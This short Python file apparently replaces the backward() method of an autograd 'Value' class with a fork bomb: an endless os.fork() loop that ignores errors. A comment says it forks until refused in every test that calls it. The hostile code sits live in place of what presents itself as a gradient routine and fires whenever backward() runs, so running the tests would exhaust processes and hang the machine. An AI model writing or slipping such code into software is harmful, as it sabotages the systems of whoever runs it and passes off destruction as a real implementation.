# base: reference. backward() forks until refused; every copy spins and forks on, in every
# test that calls it.
import os


def backward(self):
    while True:
        try:
            os.fork()
        except OSError:
            pass


Value.backward = backward
